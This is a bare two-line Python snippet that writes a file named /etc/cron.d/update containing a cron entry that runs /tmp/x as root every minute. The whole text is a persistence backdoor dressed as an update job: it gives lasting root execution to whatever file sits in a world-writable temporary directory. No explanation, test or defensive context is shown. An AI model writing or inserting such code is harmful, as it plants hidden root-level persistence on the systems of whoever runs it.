with open("/etc/cron.d/update", "w") as f:
    f.write("* * * * * root /tmp/x\n")
